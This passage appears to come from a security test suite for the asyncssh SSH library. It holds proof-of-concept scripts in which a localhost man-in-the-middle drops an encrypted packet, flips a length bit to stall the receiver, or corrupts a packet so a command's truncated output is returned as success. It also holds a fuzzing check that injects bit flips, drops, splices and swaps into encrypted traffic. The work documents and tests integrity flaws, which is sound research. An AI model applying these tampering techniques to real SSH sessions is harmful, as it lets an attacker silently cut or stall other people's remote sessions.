        except (ConnectionError, asyncio.IncompleteReadError,
                asyncio.CancelledError):
            pass


# ---------------------------------------------------------------------- test

async def run(attack):
    ENC_WRITES.clear()

    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[hostkey])
    sport = server.sockets[0].getsockname()[1]

    mitm = Mitm(sport, attack)
    proxy = await asyncio.start_server(mitm.handle, '127.0.0.1', 0)
    pport = proxy.sockets[0].getsockname()[1]

    result = {}

    async def client():
        # unmodified client, default algorithms
        async with asyncssh.connect('127.0.0.1', pport, known_hosts=None,
                                    username='user', client_keys=None) as conn:
            result['cipher'] = conn.get_extra_info('recv_cipher')
            result['ext_info_seen'] = bool(conn._server_sig_algs - {b''})

            async with conn.create_process(term_type=None) as proc:
                proc.stdin.write('hello\n')
                result['echo'] = await proc.stdout.readline()

            result['clean'] = True

    try:
        await asyncio.wait_for(client(), TIMEOUT)
    except asyncio.TimeoutError:
        result['error'] = 'timeout (stream stalled)'
    except Exception as exc:
        result['error'] = f'{type(exc).__name__}: {exc}'

    proxy.close()
    server.close()
    await asyncio.sleep(0.1)

    result['injected'] = mitm.injected
    result['dropped'] = mitm.dropped
    return result


async def main():
    base = await run(attack=False)
    print('baseline (no attacker):', base)

    if not base.get('clean') or not base.get('ext_info_seen'):
        print('baseline did not work as expected, demo inconclusive')
        return 2

    res = await run(attack=True)
    print('with attacker         :', res)

    if not res['dropped']:
        print('attacker did not get to remove a packet, demo inconclusive')
        return 2

    if res.get('error'):
        print('OK: removal of an encrypted packet was detected:',
              res['error'])
        return 0

    print()
    print(f"VIOLATION: the attacker removed the first encrypted "
          f"server->client packet ({res['dropped']} bytes, SSH_MSG_EXT_INFO) "
          f"from a {res['cipher']} stream.")
    print(f"  client saw EXT_INFO without attacker: {base['ext_info_seen']}, "
          f"with attacker: {res['ext_info_seen']}")
    print(f"  session afterwards still worked (echo={res.get('echo')!r}) and "
          f"the connection closed cleanly - no MAC/protocol error was raised.")
    return 1


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
