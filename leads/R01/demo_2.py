"""demo_2: one flipped bit in the packet length field is never reported.

There is no upper bound on the packet length a receiver is willing to wait
for (SSHConnection._recv_pkthdr / _recv_packet).  The 4 length bytes are acted
upon before they can be authenticated (they are sent in the clear with the
AES-GCM and *-etm MACs, and are malleable ciphertext with chacha20-poly1305,
the CTR ciphers and arcfour), so a man in the middle who sets the top bit of
one length field turns the packet into a 2 GiB one.  From then on the receiver
appends every further byte of the session - all of it authentic traffic of
the peer - to its input buffer, delivers nothing, and never raises an
integrity or protocol error.

The property says the alteration is detected no later than when the packet it
affects is complete and that the connection ends with an integrity/protocol
error.  RFC 4253 6.1 lets an implementation refuse anything beyond 35000 bytes
(OpenSSH: 256 KiB); with such a limit the alteration is caught the moment
the header of the altered packet is read.

Setup: unmodified asyncssh client and server, aes128-gcm@openssh.com (length
in the clear, so the TCP man in the middle can find packet boundaries without
any secret).  The attacker sets the top bit of the length of ONE
client->server packet.  The client then sends 8 MiB of further packets.

exit 0: the server ended the connection with a MAC/protocol error
exit 1: the server is still waiting, having silently swallowed the traffic
"""

import asyncio
import sys

import asyncssh

TIMEOUT = 20
FOLLOW_UP = 8 * 1024 * 1024

STATE = {'armed': False, 'tampered': None, 'forwarded_after': 0}


class Server(asyncssh.SSHServer):
    conn = None
    lost = 'still open'
    debug_msgs = 0

    def connection_made(self, conn):
        Server.conn = conn

    def connection_lost(self, exc):
        Server.lost = exc

    def begin_auth(self, username):
        return False

    def debug_msg_received(self, msg, lang, always_display):
        Server.debug_msgs += 1


# ------------------------------------------------------------------ attacker

async def plain_relay(reader, writer):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(data)
            await writer.drain()
    except (ConnectionError, asyncio.CancelledError):
        pass


async def c2s_relay(reader, writer):
    """Relay client->server, framing the AES-GCM packets"""

    try:
        writer.write(await reader.readuntil(b'\n'))         # version

        while True:                                         # plaintext part
            hdr = await reader.readexactly(4)
            body = await reader.readexactly(int.from_bytes(hdr, 'big'))
            writer.write(hdr + body)

            if body[1] == 21:                               # NEWKEYS
                break

        while True:                                         # AES-GCM part
            hdr = await reader.readexactly(4)
            body = await reader.readexactly(int.from_bytes(hdr, 'big') + 16)

            if STATE['armed'] and STATE['tampered'] is None:
                STATE['tampered'] = int.from_bytes(hdr, 'big')
                hdr = bytes([hdr[0] ^ 0x80]) + hdr[1:]      # one bit
            elif STATE['tampered'] is not None:
                STATE['forwarded_after'] += 4 + len(body)

            writer.write(hdr + body)
            await writer.drain()
    except (ConnectionError, asyncio.IncompleteReadError,
            asyncio.CancelledError):
        pass


async def mitm(sport, creader, cwriter):
    sreader, swriter = await asyncio.open_connection('127.0.0.1', sport)
    tasks = [asyncio.ensure_future(c2s_relay(creader, swriter)),
             asyncio.ensure_future(plain_relay(sreader, cwriter))]
    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    for w in (cwriter, swriter):
        w.close()


# ---------------------------------------------------------------------- test

async def main():
    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[hostkey],
                                   encryption_algs=['aes128-gcm@openssh.com'])
    sport = server.sockets[0].getsockname()[1]

    proxy = await asyncio.start_server(
        lambda r, w: mitm(sport, r, w), '127.0.0.1', 0)
    pport = proxy.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', pport, known_hosts=None,
                         username='user', client_keys=None,
                         encryption_algs=['aes128-gcm@openssh.com']), TIMEOUT)

    # untampered traffic first: must arrive
    conn.send_debug('before')
    await asyncio.sleep(0.3)
    before = Server.debug_msgs
    print('debug messages delivered before the attack:', before)

    STATE['armed'] = True

    chunk = 'x' * 32000
    sent = 0

    while sent < FOLLOW_UP and not conn.is_closed():
        conn.send_debug(chunk)
        sent += len(chunk)
        await asyncio.sleep(0)          # let the transport flush

    # give the server plenty of time to notice
    for _ in range(50):
        if Server.lost != 'still open':
            break
        await asyncio.sleep(0.1)

    sconn = Server.conn
    print(f"attacker changed length {STATE['tampered']} -> "
          f"{STATE['tampered'] ^ 0x80000000} in one packet, then forwarded "
          f"{STATE['forwarded_after']} bytes of authentic traffic unchanged")
    print('server connection state:', repr(Server.lost))
    print('debug messages delivered after the attack:',
          Server.debug_msgs - before)

    rc = 0

    if isinstance(Server.lost, (asyncssh.MACError, asyncssh.ProtocolError)):
        print('OK: alteration detected')
    else:
        print(f'VIOLATION: no integrity/protocol error; server waits for a '
              f'packet of {sconn._pktlen} bytes and holds '
              f'{len(sconn._inpbuf)} bytes in its input buffer')
        rc = 1

    conn.abort()
    proxy.close()
    server.close()
    await asyncio.sleep(0.1)
    return rc


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('demo timed out')
        sys.exit(2)
