"""demo_3: after a detected alteration the integrity error is swallowed by
SSHClientConnection.run() / SSHClientProcess.wait() / communicate(): the
application is handed the truncated output as an ordinary completed process,
even with check=True.

The transport does detect the flipped bit (MACError, the connection is torn
down), and the channel's session is told (connection_lost(exc), the exception
is queued behind the data in the stream's receive buffer).  But

    SSHClientProcess._collect_output()      (process.py)

strips that trailing exception from the buffer and SSHProcess.wait() only
looks at exit_status, which is None and therefore "not a failure".  So a man
in the middle can cut the output of a remote command at any packet boundary
he likes (by damaging the next packet) and `await conn.run(cmd, check=True)`
returns normally.  The property demands that the stream can be stalled but
not changed and that the connection "ends with an integrity or protocol
error" - the caller of run() never gets to see one.

Setup: unmodified asyncssh client and server, aes128-gcm@openssh.com so that
the TCP man in the middle can frame packets without secrets.  The remote
command prints 10 lines; after the third one the attacker flips one bit in
the next server->client packet.

exit 0: run() raised (or returned the complete output)
exit 1: run() returned normally with truncated output
"""

import asyncio
import sys

import asyncssh

TIMEOUT = 15
LINES = [f'line {i}\n' for i in range(10)]

STATE = {'armed': False, 'tampered': False}


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class Client(asyncssh.SSHClient):
    lost = 'not called'

    def connection_lost(self, exc):
        Client.lost = exc


async def remote_command(process):
    for i, line in enumerate(LINES):
        if i == 3:
            await asyncio.sleep(0.2)    # first three lines are on their way
            STATE['armed'] = True
        process.stdout.write(line)
        await asyncio.sleep(0.02)

    process.exit(0)


# ------------------------------------------------------------------ attacker

async def plain_relay(reader, writer):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(data)
    except (ConnectionError, asyncio.CancelledError):
        pass


async def s2c_relay(reader, writer):
    """Relay server->client, framing the AES-GCM packets"""

    try:
        writer.write(await reader.readuntil(b'\n'))         # version

        while True:                                         # plaintext part
            hdr = await reader.readexactly(4)
            body = await reader.readexactly(int.from_bytes(hdr, 'big'))
            writer.write(hdr + body)

            if body[1] == 21:                               # NEWKEYS
                break

        while True:                                         # AES-GCM part
            hdr = await reader.readexactly(4)
            body = await reader.readexactly(int.from_bytes(hdr, 'big') + 16)

            if STATE['armed'] and not STATE['tampered']:
                STATE['tampered'] = True
                body = body[:5] + bytes([body[5] ^ 0x01]) + body[6:]

            writer.write(hdr + body)
    except (ConnectionError, asyncio.IncompleteReadError,
            asyncio.CancelledError):
        pass


async def mitm(sport, creader, cwriter):
    sreader, swriter = await asyncio.open_connection('127.0.0.1', sport)
    tasks = [asyncio.ensure_future(plain_relay(creader, swriter)),
             asyncio.ensure_future(s2c_relay(sreader, cwriter))]
    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    for w in (cwriter, swriter):
        w.close()


# ---------------------------------------------------------------------- test

async def main():
    hostkey = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[hostkey],
                                   process_factory=remote_command,
                                   encryption_algs=['aes128-gcm@openssh.com'])
    sport = server.sockets[0].getsockname()[1]

    proxy = await asyncio.start_server(
        lambda r, w: mitm(sport, r, w), '127.0.0.1', 0)
    pport = proxy.sockets[0].getsockname()[1]

    conn, _ = await asyncio.wait_for(
        asyncssh.create_connection(
            Client, '127.0.0.1', pport, known_hosts=None, username='user',
            client_keys=None, encryption_algs=['aes128-gcm@openssh.com']),
        TIMEOUT)

    rc = 0

    try:
        result = await asyncio.wait_for(conn.run('print-lines', check=True),
                                        TIMEOUT)
    except asyncio.TimeoutError:
        print('run() did not return: stream stalled (allowed)')
    except Exception as exc:
        print(f'OK: run() raised {type(exc).__name__}: {exc}')
    else:
        complete = result.stdout == ''.join(LINES)

        print('attacker flipped a bit   :', STATE['tampered'])
        print('connection ended with    :', repr(Client.lost))
        print('run(check=True) returned :', repr(result.stdout))
        print('  exit_status =', result.exit_status,
              ' returncode =', result.returncode)

        if complete:
            print('OK: complete output')
        else:
            print(f'VIOLATION: run() returned normally with '
                  f'{len(result.stdout.splitlines())} of {len(LINES)} lines; '
                  f'the {type(Client.lost).__name__} was not reported to '
                  f'the caller')
            rc = 1

    conn.abort()
    proxy.close()
    server.close()
    await asyncio.sleep(0.1)
    return rc


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('demo timed out')
        sys.exit(2)
