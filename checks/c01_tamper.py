"""C01 -- encrypted transport is tamper-evident in both directions."""

import asyncssh

from simkit.net import DATA
from simkit.refssh.observer import Observer
from simkit.sshwire import Reader, Short
from . import chanload

ID = 'C01'
NAME = 'tamper'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

CIPHERS = ['chacha20-poly1305@openssh.com', 'aes256-gcm@openssh.com',
           'aes128-gcm@openssh.com', 'aes256-ctr', 'aes192-ctr',
           'aes128-ctr', 'aes256-cbc', 'aes192-cbc', 'aes128-cbc',
           '3des-cbc', 'blowfish-cbc', 'cast128-cbc', 'seed-cbc@ssh.com',
           'arcfour256', 'arcfour128', 'arcfour']
MACS = ['umac-64-etm@openssh.com', 'umac-128-etm@openssh.com',
        'hmac-sha2-256-etm@openssh.com', 'hmac-sha2-512-etm@openssh.com',
        'hmac-sha1-etm@openssh.com', 'hmac-md5-etm@openssh.com',
        'hmac-sha2-256-96-etm@openssh.com',
        'hmac-sha2-512-96-etm@openssh.com', 'hmac-sha1-96-etm@openssh.com',
        'hmac-md5-96-etm@openssh.com', 'umac-64@openssh.com',
        'umac-128@openssh.com', 'hmac-sha2-256', 'hmac-sha2-512',
        'hmac-sha1', 'hmac-sha256-2@ssh.com', 'hmac-sha224@ssh.com',
        'hmac-sha256@ssh.com', 'hmac-sha384@ssh.com', 'hmac-sha512@ssh.com',
        'hmac-md5', 'hmac-sha2-256-96', 'hmac-sha2-512-96', 'hmac-sha1-96',
        'hmac-md5-96']
COMPS = ['none', 'zlib@openssh.com', 'zlib']
KEXES = ['curve25519-sha256', 'ecdh-sha2-nistp256',
         'diffie-hellman-group14-sha256']
KINDS = ['bitflip', 'bitflip', 'bitflip', 'bytedrop', 'byteinsert',
         'truncate', 'pktdrop', 'dup', 'swap', 'splice_same',
         'splice_other', 'splice_random']
REGIONS = ['length', 'padlen', 'body', 'padding', 'tag']
TAGLEN = {'umac-64': 8, 'umac-128': 16}

RULE = ('Each run: drawn (cipher, MAC, compression) out of every algorithm '
        'asyncssh registers, 1-2 channels echoing unique payloads of sizes '
        'around 0, 1, block-1, block, block+1, max packet, optional rekey; '
        'one tamper after NEWKEYS at a drawn (direction, packet index, '
        'region in {length, pad-length, body, padding, tag}, kind in '
        '{bit flip, byte drop, byte insert, truncate, packet drop, '
        'duplicate, swap, splice same/other direction, random splice}), '
        'under seeded segmentation. Oracle on the receiver of the tampered '
        'direction: application data == exactly what packets wholly before '
        'the first altered byte carried; the connection ends with MACError/'
        'ProtocolError/CompressionError, or stalls delivering nothing more '
        'and ends with an error once the link closes; no callback after the '
        'close. Non-trivial = tamper fired; distinct = (cipher, mac-family, '
        'cmp, direction, kind, region, schedule) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'asyncssh emits one SSH packet per transport write (checked by the '
    'passive decoder where it supports the algorithms)',
    'packet/padding boundaries come from the independent passive decoder; '
    'for umac the padding region is not distinguished from the body',
    'a corrupted encrypted length may legitimately stall the stream: '
    'counted as a probe, the oracle then requires nothing further be '
    'delivered and an error once the link closes',
]

REAL = ['asyncssh transport (connection, encryption, mac, compression, '
        'crypto shims) and channels of both endpoints', 'PyCA']
STUB = ['event loop + clock', 'TCP', 'executor', 'OS randomness (DRBG)',
        'on-path tamper wire with independent passive decoder']
PROBES = ['tamper_fired', 'tamper_umac', 'ended_mac_error',
          'stalled_then_error',
          'after_rekey_tamper', 'tamper_c2s', 'tamper_s2c']


def gen_plan(rng):
    window = 2097152
    plan = {
        'drbg': rng.below(1 << 30),
        'profile': {
            'p_sched': rng.choice([0, 10, 30, 60, 90]),
            'p_chunk': rng.choice([10, 50, 90]),
            'latency_ms': rng.choice([0, 0, 0, 1, 20]),
            'capacity': 0,
        },
        'text': False, 'errors': 'strict',
        'srv_window': window, 'srv_pktsize': rng.choice([64, 1000, 32768]),
        'channels': [], 'closer': 'client',
    }
    sizes = [0, 1, 2, 3, 7, 8, 9, 15, 16, 17, 31, 32, 33, 63, 64, 65, 255,
             256, 1000, 4095, 4096, 4097, 32768, 40000]

    for i in range(rng.choice([1, 1, 2])):
        def ops(allow_stderr):
            out = []

            for _ in range(rng.between(2, 10)):
                out.append(['w', rng.choice(sizes),
                            1 if allow_stderr and rng.chance(25) else 0])

                if rng.chance(30):
                    out.append(['y'])

            return out

        plan['channels'].append({
            'kind': rng.choice(['session', 'session', 'tcp']), 'text': False,
            'window': window, 'pktsize': rng.choice([64, 1000, 32768]),
            'reader_c': 'cb', 'reader_s': 'cb',
            'c2s': ops(False), 's2c': ops(True),
            'pause_c': [], 'pause_s': [], 'read_n': 65536})

    for ch in plan['channels']:
        if ch['kind'] == 'tcp':
            for op in ch['s2c']:
                if op[0] == 'w':
                    op[2] = 0

    plan['algs'] = {
        'kex_algs': [rng.choice(KEXES)],
        'encryption_algs': [rng.choice(CIPHERS)],
        'mac_algs': [rng.choice(MACS)],
        'compression_algs': [rng.choice(COMPS)],
    }
    plan['rekey_bytes'] = rng.choice([0, 0, 0, 3000, 20000])
    plan['tamper'] = {
        'dir': rng.choice(['c2s', 's2c']),
        'k': rng.weighted([(rng.below(8), 3), (rng.below(30), 4),
                           (rng.below(80), 2)]),
        'kind': rng.choice(KINDS),
        'region': rng.choice(REGIONS),
        'pos': rng.below(1 << 16),
        'bit': rng.below(8),
        'src': rng.below(1 << 16),
        'rnd': rng.below(1 << 30),
    }
    return chanload.clamp_plan(plan, 60)


def valid_plan(plan):
    try:
        t = plan['tamper']

        if t['dir'] not in ('c2s', 's2c') or t['kind'] not in KINDS or \
                t['region'] not in REGIONS or t['k'] < 0:
            return False

        for key in ('kex_algs', 'encryption_algs', 'mac_algs',
                    'compression_algs'):
            if len(plan['algs'][key]) != 1:
                return False

        for ch in plan['channels']:
            if ch['window'] < 1 << 20 or ch['pause_c'] or ch['pause_s'] or \
                    ch['reader_c'] != 'cb' or ch['reader_s'] != 'cb':
                return False

        if plan['srv_window'] < 1 << 20 or plan['text']:
            return False
    except (KeyError, TypeError, IndexError):
        return False

    return chanload.valid_plan(plan)


class TamperWire(Observer):
    """Alters the k-th encrypted packet of one direction"""

    def __init__(self, conn, sim, t, mac_alg):
        super().__init__(conn, sim)
        self.t = t
        self.mac_alg = mac_alg
        self.enc_index = {'c2s': 0, 's2c': 0}   # encrypted packets so far
        self.raw = {'c2s': [], 's2c': []}        # encrypted packets seen
        self.fired = False
        self.clean_upto = None    # writes of dir wholly before first edit
        self.held = None
        self.blackhole = set()
        self.info = {}
        self.maybe_intact = False   # the altered packet may arrive unaltered

    def regions(self, dirname, data):
        ds = self.d[dirname]
        st = ds.state
        total = len(data)
        taglen = None
        padlen = None

        if st is not None and not ds.undecodable and ds.packets and \
                ds.packets[-1][4] == total and ds.last_len == total:
            taglen = st.taglen
            padlen = ds.last_padlen
        else:
            for name, n in TAGLEN.items():
                if self.mac_alg.startswith(name):
                    taglen = n

        if taglen is None:
            taglen = 0

        end = total - taglen
        reg = {'length': (0, 4), 'padlen': (4, 5), 'tag': (end, total)}

        if padlen is not None and end - padlen > 5:
            reg['body'] = (5, end - padlen)
            reg['padding'] = (end - padlen, end)
        else:
            reg['body'] = (5, end)
            reg['padding'] = (5, end)

        return reg

    def emit(self, pipe, data, index):
        dirname = self.dirname(pipe)
        ds = self.d[dirname]
        t = self.t

        if dirname in self.blackhole:
            return

        # the NEWKEYS packet itself is still under the old keys
        is_first_newkeys = ds.epoch == 1 and \
            getattr(ds, 'newkeys_write', None) == index

        if ds.epoch == 0 or is_first_newkeys or ds.version is None or \
                index == 0:
            pipe.push(DATA, data)
            return

        n = self.enc_index[dirname]
        self.enc_index[dirname] += 1
        self.raw[dirname].append(data)

        # swap: release the held packet after its successor
        if self.held is not None and dirname == t['dir']:
            held = self.held
            self.held = None
            pipe.push(DATA, data)
            pipe.push(DATA, held)
            return

        if self.fired or dirname != t['dir'] or n != t['k']:
            pipe.push(DATA, data)
            return

        self.fired = True
        sim = self.sim
        kind = t['kind']
        reg = self.regions(dirname, data)
        lo, hi = reg[t['region']]

        if hi <= lo:
            lo, hi = 0, len(data)

        off = lo + t['pos'] % (hi - lo)
        self.clean_upto = index          # writes [0, index) are untouched
        self.info = {'write_index': index, 'enc_index': n, 'offset': off,
                     'len': len(data), 'epoch': ds.epoch,
                     'decoded': ds.state is not None and not ds.undecodable}
        sim.stats['tamper_' + kind] += 1
        sim.log('tamper', dirname, kind, t['region'], index, off)

        if kind == 'bitflip':
            b = bytearray(data)
            b[off] ^= 1 << t['bit']
            pipe.push(DATA, bytes(b))
        elif kind == 'bytedrop':
            # dropping a byte that equals its successor is the same stream
            # as dropping the successor: the first byte that really differs
            # is at the end of the run -- possibly in the next packet, in
            # which case this packet arrives unaltered
            end = off

            while end + 1 < len(data) and data[end + 1] == data[off]:
                end += 1

            if end == len(data) - 1:
                self.maybe_intact = True

            pipe.push(DATA, data[:off] + data[off + 1:])
        elif kind == 'byteinsert':
            ins = t['rnd'] & 0xff
            end = off

            while end < len(data) and data[end] == ins:
                end += 1

            if end == len(data):
                self.maybe_intact = True

            pipe.push(DATA, data[:off] + bytes([ins]) + data[off:])
        elif kind == 'truncate':
            if off:
                pipe.push(DATA, data[:off])

            self.blackhole.add(dirname)
        elif kind == 'pktdrop':
            pass
        elif kind == 'dup':
            pipe.push(DATA, data)
            pipe.push(DATA, data)
            self.clean_upto = index + 1
        elif kind == 'swap':
            self.held = data
        elif kind in ('splice_same', 'splice_other'):
            other = dirname if kind == 'splice_same' else \
                ('s2c' if dirname == 'c2s' else 'c2s')
            pool = self.raw[other][:-1] if other == dirname \
                else self.raw[other]

            if pool:
                pipe.push(DATA, pool[t['src'] % len(pool)])
            else:
                pipe.push(DATA, bytes([(t['rnd'] >> (i % 24)) & 0xff
                                       for i in range(len(data))]))

            pipe.push(DATA, data)
        else:
            from simkit.tape import Rng
            junk = Rng('junk:%d' % t['rnd']).bytes(len(data))
            pipe.push(DATA, junk)
            pipe.push(DATA, data)


def _data_in(payload):
    """(recipient channel, datatype, data) for DATA/EXTENDED_DATA payloads"""

    try:
        r = Reader(payload, 1)

        if payload[0] == 94:
            return r.u32(), 0, r.string()

        if payload[0] == 95:
            chan = r.u32()
            dt = r.u32()
            return chan, 1 if dt == 1 else dt, r.string()
    except Short:
        pass

    return None


INTEGRITY = (asyncssh.MACError, asyncssh.ProtocolError,
             asyncssh.CompressionError)


def run_plan(plan, sched_seed=None, sched_replay=None):
    t = plan['tamper']
    wires = []

    def setup(world, run):
        def on_connection(conn):
            if not wires:
                wires.append(TamperWire(conn, world.sim, t,
                                        plan['algs']['mac_algs'][0]))

        world.sim.net.on_connection = on_connection

    state = {}

    def between(world, run):
        sim = world.sim

        if sim.loop.capped or not wires:
            return False

        w = wires[0]
        state['fired'] = w.fired

        if not w.fired:
            # no tamper happened: the plain C07 oracle applies
            run.check_streams(require_complete=True)
            return False

        # receiver of the tampered direction
        rside = 's' if t['dir'] == 'c2s' else 'c'
        owner = run.server_owner if rside == 's' else run.client
        sender_conn = run.conn if t['dir'] == 'c2s' else \
            (run.server_owner.conn if run.server_owner else None)
        state['owner'] = owner
        state['rside'] = rside

        # expected deliveries: data carried by sender packets wholly before
        # the first altered byte.  Sender tap entry j is wire write j+1
        # (write 0 is the version line).
        slabel = getattr(sender_conn, '_sim_label', None) if sender_conn \
            else None

        if slabel is None:
            for label in sim.pkts:
                if label.startswith('C' if t['dir'] == 'c2s' else 'S'):
                    slabel = label

        sent = [p for p in sim.pkts.get(slabel, []) if p[0] == 'S']
        ds = w.d[t['dir']]
        idx = getattr(ds, 'packet_index', [])

        if ds.packets and len(idx) == len(ds.packets) and \
                not ds.undecodable and w.info.get('decoded'):
            # what was on the wire, in wire order, as decoded by the
            # independent observer: packets of writes before the first
            # altered one.  (The sender's own log is in send_packet() order,
            # which differs from wire order when packets were held back
            # during a re-exchange.)
            clean = [(None, pk[2], pk[1], pk[3], pk[4])
                     for pk, wi in zip(ds.packets, idx)
                     if wi is not None and wi < w.clean_upto]
            sim.probes['expected_from_wire'] += 1
        else:
            clean = sent[:max(0, w.clean_upto - 1)]

        expect = {}

        for _d, ptype, _seq, payload, _n in clean:
            if ptype in (94, 95):
                got = _data_in(payload)

                if got:
                    chan, dt, data = got
                    expect.setdefault((chan, dt), []).append(data)

        # the packet the tamper was aimed at, where the alteration may in
        # fact begin only after it (see TamperWire.emit)
        extra = None

        if w.maybe_intact and ds.packets and len(idx) == len(ds.packets):
            for pk, wi in zip(ds.packets, idx):
                if wi == w.clean_upto and pk[2] in (94, 95):
                    extra = _data_in(pk[3])

            sim.probes['tamper_left_packet_intact'] += 1
        elif w.maybe_intact:
            extra = 'unknown'

        state['expect'] = expect
        state['sent_total'] = len(sent)

        # map receiver channel ids to endpoints
        def check_delivery(final):
            for i in run.opened:
                ep = run.eps[(rside, i)]
                chan = ep.chan
                rid = getattr(ep, 'recv_chan_id', None)

                if rid is None:
                    continue

                for dt in (0, 1):
                    want = b''.join(expect.get((rid, dt), []))
                    got = ep.joined(dt)

                    if extra == 'unknown' and got[:len(want)] == want:
                        continue

                    if extra and extra[0] == rid and extra[1] == dt and \
                            got == want + extra[2]:
                        continue

                    if got != want:
                        if len(got) < len(want) and want[:len(got)] == got \
                                and not final:
                            continue

                        kind = 'altered-data-delivered' \
                            if len(got) > len(want) or \
                            want[:len(got)] != got else 'clean-data-lost'
                        world.violation(
                            kind,
                            'receiver %s chan %d dt=%d: application got %d '
                            'bytes, packets wholly before the first altered '
                            'byte carried %d (first difference at %d); '
                            'tamper %r %r algs %r' %
                            (rside, i, dt, len(got), len(want),
                             chanload.first_diff(got, want), t, w.info,
                             plan['algs']),
                            sig='%s:%s' % (t['kind'], kind))

        state['check_delivery'] = check_delivery
        exc = owner.lost[0] if owner and owner.lost else None

        if exc is not None:
            check_delivery(final=True)

            if isinstance(exc, INTEGRITY):
                sim.probes['ended_' + {
                    asyncssh.MACError: 'mac_error',
                    asyncssh.ProtocolError: 'protocol_error',
                    asyncssh.CompressionError: 'compression_error'}[
                        type(exc)]] += 1
            elif isinstance(exc, (asyncssh.ConnectionLost,
                                  ConnectionError)):
                # the *other* side may have closed first (it received our
                # receiver's reaction or its own tampered packet): fine as
                # long as nothing altered was delivered
                sim.probes['ended_connection_lost'] += 1
            elif isinstance(exc, asyncssh.DisconnectError):
                sim.probes['ended_other_disconnect'] += 1
            else:
                world.violation('wrong-error', 'receiver ended with %r' %
                                (exc,), sig=type(exc).__name__)

            return False

        # receiver still up: it must be waiting (removal / truncation /
        # corrupted encrypted length).  Nothing beyond the clean prefix may
        # have been delivered; now close the link.
        check_delivery(final=True)
        sim.probes['stalled'] += 1
        state['stalled'] = True

        for c in sim.net.connections[:1]:
            c.cut('eof')

        return True

    def after_cut(world, run):
        if not state.get('stalled') or world.sim.loop.capped:
            return False

        owner = state['owner']
        exc = owner.lost[0] if owner and owner.lost else None
        state['check_delivery'](final=True)

        if owner is None or not owner.lost:
            world.violation('no-error-after-close', 'tampered stream '
                            'stalled; after the link closed the receiver '
                            'never reported connection_lost')
        elif exc is None:
            world.violation('clean-close-after-tamper', 'receiver reported '
                            'a clean close (exc=None) although the stream '
                            'was cut short by tampering')
        else:
            world.sim.probes['stalled_then_error'] += 1

        return False

    def finish(world, run):
        run.check_lost()
        world.check_loop_health(allow_hang=True)

    extra = {}

    if plan.get('rekey_bytes'):
        extra = dict(rekey_bytes=plan['rekey_bytes'])

    # remember each endpoint's own channel number at connection_made
    orig_made = chanload.CbSession.connection_made

    def made(self, chan):
        orig_made(self, chan)
        self.ep.recv_chan_id = chan._recv_chan

    chanload.CbSession.connection_made = made

    try:
        world, run = chanload.run_channels(
            plan, sched_seed, sched_replay, setup=setup,
            between=[between, after_cut], finish=finish,
            extra_server_opts=extra, extra_client_opts=extra)
    finally:
        chanload.CbSession.connection_made = orig_made

    sim = world.sim
    fired = bool(wires and wires[0].fired)

    if fired:
        sim.probes['tamper_fired'] += 1
        sim.probes['tamper_' + t['dir']] += 1

        if wires[0].info.get('epoch', 0) > 1:
            sim.probes['after_rekey_tamper'] += 1

        if not wires[0].info.get('decoded'):
            # algorithms the passive decoder does not implement (umac):
            # the tamper is placed by write boundaries alone
            sim.probes['tamper_undecoded_alg'] += 1

        if 'umac' in plan['algs']['mac_algs'][0] and not \
                ('gcm' in plan['algs']['encryption_algs'][0] or
                 'chacha' in plan['algs']['encryption_algs'][0]):
            sim.probes['tamper_umac'] += 1

    enc = plan['algs']['encryption_algs'][0]
    mac = plan['algs']['mac_algs'][0]
    macfam = 'aead' if ('gcm' in enc or 'chacha' in enc) else \
        ('umac' if 'umac' in mac else 'hmac') + \
        ('-etm' if 'etm' in mac else '')
    world.states.add((enc, macfam, plan['algs']['compression_algs'][0],
                      t['kind'] if fired else 'none',
                      t['region'] if fired and t['kind'] in
                      ('bitflip', 'bytedrop', 'byteinsert', 'truncate')
                      else '-', t['dir']))

    sample = {'algs': plan['algs'], 'tamper': t, 'fired': fired,
              'info': wires[0].info if wires else None,
              'receiver_error': repr(state['owner'].lost[:1])
              if state.get('owner') else None}
    return world.result(nontrivial=fired, sample=sample)
