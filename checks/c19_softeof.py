"""C19, soft EOF: input typed at a terminal with the server's line editor on.
Ctrl-D on an empty line is a *soft* end of file -- it ends the read call that
is outstanding ("EOF ... reported as documented") and the stream goes on.
The server command reads its stdin with a drawn program of stream calls; a
model over the typed lines and the soft EOFs between them says what each call
must return or raise."""

import asyncio

import asyncssh

from simkit.world import World, RecServer, client_opts, server_opts

WORDS = ['a', 'ab', 'b;c', ';', 'abc;', 'x' * 9, '']


def gen_plan(rng):
    items = []

    for _ in range(rng.between(1, 6)):
        if rng.chance(35):
            items.append(['seof'])
        else:
            items.append(['line', rng.choice(WORDS)])

    prog = []

    for _ in range(rng.between(1, 8)):
        k = rng.weighted([('read', 25), ('exactly', 25), ('line', 20),
                          ('until', 20), ('readall', 10)])

        if k == 'read':
            prog.append(['read', rng.choice([1, 2, 5, 100])])
        elif k == 'exactly':
            prog.append(['exactly', rng.choice([1, 2, 4, 12])])
        else:
            prog.append([k])

    prog.append(['readall'])
    prog.append(['readall'])
    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 30, 70, 95]),
                    'p_chunk': rng.choice([10, 50, 90]),
                    'latency_ms': 0, 'capacity': 0},
        'mode': 'editor', 'items': items, 'prog': prog,
